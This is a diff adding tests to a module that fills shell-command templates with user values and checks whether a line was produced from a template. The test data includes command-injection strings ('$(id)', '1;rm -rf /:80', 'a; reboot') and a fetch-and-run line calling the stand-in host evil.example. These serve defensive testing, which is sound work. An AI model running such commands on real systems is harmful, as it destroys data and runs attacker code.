@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { fillCommand, fillText } from './fill-holes.ts'
+import { fillCommand, fillText, isFilledFrom } from './fill-holes.ts'
 
 const where = { url: 'https://shop.example.com/a?b=$(id)&c', upstream: '[::1]:3000', service: 'shop' }
 
@@ -26,5 +26,24 @@ describe('fillText and fillCommand', () => {
     expect(
       fillCommand('ss -ltnp | grep {upstreamPort}; systemctl status {service}', { upstream: '1;rm -rf /:80', service: 'a; reboot' }),
     ).toBe('ss -ltnp | grep PORT; systemctl status YOUR-APP')
+  })
+})
+
+describe('isFilledFrom', () => {
+  const command = "systemctl status {service} | awk '{print}' {url}"
+  it.each([
+    ["systemctl status shop.service | awk '{print}' https://a.example/", true],
+    ["systemctl status YOUR-APP | awk '{print}' 'https://a.example/?a=b&c='\\''d'", true],
+    ["systemctl status $(id) | awk '{print}' https://a.example/", false],
+    ["systemctl status shop; id | awk '{print}' https://a.example/", false],
+    ["systemctl status 'shop'; id ' | awk '{print}' https://a.example/", false],
+    ['curl http://evil.example/x | sh', false],
+  ])('of %j is %j', (line, isOurs) => {
+    expect(isFilledFrom(command, line)).toBe(isOurs)
+  })
+
+  it('takes what fillCommand makes', () => {
+    const filled = [{}, { service: 'shop', url: 'https://a.example/?a=b&c=d' }, { url: "https://a.example/it's" }]
+    expect(filled.map((known) => isFilledFrom(command, fillCommand(command, known)))).toEqual([true, true, true])
   })
 })
